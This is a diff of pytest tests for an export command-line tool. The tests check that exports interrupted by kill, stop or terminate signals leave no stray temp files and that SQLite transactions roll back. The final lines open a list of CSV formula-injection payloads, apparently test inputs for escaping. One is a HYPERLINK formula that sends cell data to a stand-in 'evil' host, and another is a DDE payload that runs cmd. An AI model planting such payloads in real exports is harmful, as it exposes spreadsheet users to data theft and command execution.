@@ -237,6 +237,104 @@ def test_a_killed_or_interrupted_export_leaves_no_partial_file(tmp_path, fmt):
     assert interrupted >= 3, "the signals came too late to interrupt anything"
 
 
+def _temps_of(target: Path) -> list[Path]:
+    return sorted(p for p in target.parent.iterdir() if p.name.startswith(f".tmp-{target.name}."))
+
+
+def _size(path: Path) -> int:
+    try:
+        return path.stat().st_size
+    except FileNotFoundError:
+        return 0
+
+
+def _start_export(env: dict, fmt: str, target: Path, *extra: str) -> tuple[subprocess.Popen, set[Path]]:
+    """A real export, returned once its temp file beside ``target`` exists (it is writing), with
+    the temp files it made."""
+    before = set(_temps_of(target))
+    proc = subprocess.Popen(_cli() + ["export", fmt, "-p", "big", "--out", str(target), *extra], env=env,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    deadline = time.monotonic() + 60
+    while not (own := {p for p in set(_temps_of(target)) - before if _size(p)}):  # made, and being written
+        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()[1]
+        time.sleep(0.005)
+    return proc, own
+
+
+@pytest.mark.parametrize("fmt", ["csv", "sqlite"])
+def test_what_a_killed_export_leaves_the_next_export_removes_and_sigterm_leaves_nothing(tmp_path, fmt):
+    """An export killed with SIGKILL cannot clean up: its temp file (and SQLite's journal beside it)
+    stays, and the next export to the same destination removes it, never the temp file of an
+    export still at work (one stopped with SIGSTOP). SIGTERM cleans up at once, as Ctrl-C does."""
+    root = tmp_path / "memory"
+    _big_store(root)
+    env = {k: v for k, v in os.environ.items() if not k.startswith("CYBERINE_")}
+    env["CYBERINE_MEMORY_DIR"] = str(root)
+    target = tmp_path / f"out.{fmt}"
+    killed, left = _start_export(env, fmt, target)
+    killed.kill()
+    killed.communicate()
+    assert set(_temps_of(target)) == left and all(p.name.startswith(f".tmp-out.{fmt}.") for p in left)
+    stopped, own = _start_export(env, fmt, target, "--force")  # at work, then stopped (Ctrl-Z)
+    stopped.send_signal(signal.SIGSTOP)
+    try:
+        assert set(_temps_of(target)) == own, "the killed export's files are gone"
+        done = subprocess.run(_cli() + ["export", fmt, "-p", "big", "--out", str(target), "--force"], env=env,
+                              capture_output=True, text=True)
+        assert done.returncode == 0, done.stderr
+        assert _complete(target, fmt)
+        assert set(_temps_of(target)) == own, "the stopped export's files are kept"
+    finally:
+        stopped.send_signal(signal.SIGCONT)
+    assert stopped.communicate(timeout=120) and stopped.returncode == 0 and _complete(target, fmt)
+    assert _temps_of(target) == []
+    fresh = tmp_path / f"fresh.{fmt}"
+    termed, _ = _start_export(env, fmt, fresh)
+    termed.terminate()
+    err = termed.communicate(timeout=60)[1].decode()
+    assert termed.returncode == 143 and err == "cybmem: terminated\n", (termed.returncode, err)
+    assert _temps_of(fresh) == [] and not fresh.exists()
+
+
+def test_a_sqlite_update_killed_mid_transaction_is_rolled_back_by_the_next_export(tmp_path):
+    """An update of an existing database killed while its transaction is open leaves SQLite's
+    journal (the database needs it to roll back): the next export rolls it back and removes it;
+    SIGTERM rolls back at once."""
+    root = tmp_path / "memory"
+    _big_store(root)
+    env = {k: v for k, v in os.environ.items() if not k.startswith("CYBERINE_")}
+    env["CYBERINE_MEMORY_DIR"] = str(root)
+    db = tmp_path / "memory.db"
+    assert subprocess.run(_cli() + ["export", "sqlite", "-p", "big", "--out", str(db)], env=env).returncode == 0
+    journal = tmp_path / "memory.db-journal"
+    for sig, code in ((signal.SIGTERM, 143), (signal.SIGKILL, -9)):
+        for rec in sorted((root / "big" / "records").glob("big-*.json"))[:1500]:  # new rows: a long transaction
+            data = json.loads(rec.read_text())
+            data["runId"] = data["runId"] + sig.name
+            (rec.parent / f"{data['runId']}.json").write_text(json.dumps(data))
+        proc = subprocess.Popen(_cli() + ["export", "sqlite", "-p", "big", "--out", str(db)], env=env,
+                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+        deadline = time.monotonic() + 60
+        while not journal.exists():
+            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()[1]
+            time.sleep(0.001)
+        proc.send_signal(sig)
+        proc.communicate(timeout=60)
+        assert proc.returncode == code
+        if sig == signal.SIGTERM:
+            assert not journal.exists(), "rolled back at once"
+    done = subprocess.run(_cli() + ["export", "sqlite", "-p", "big", "--out", str(db)], env=env, capture_output=True,
+                          text=True)
+    assert done.returncode == 0, done.stderr
+    assert not journal.exists()
+    con = sqlite3.connect(db)
+    try:
+        assert con.execute("SELECT count(*) FROM records").fetchone()[0] == 4500
+    finally:
+        con.close()
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith((".tmp-", "memory.db"))) == ["memory.db"]
+
+
 # --- CSV cells a spreadsheet would run ------------------------------------------------------------
 
 FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
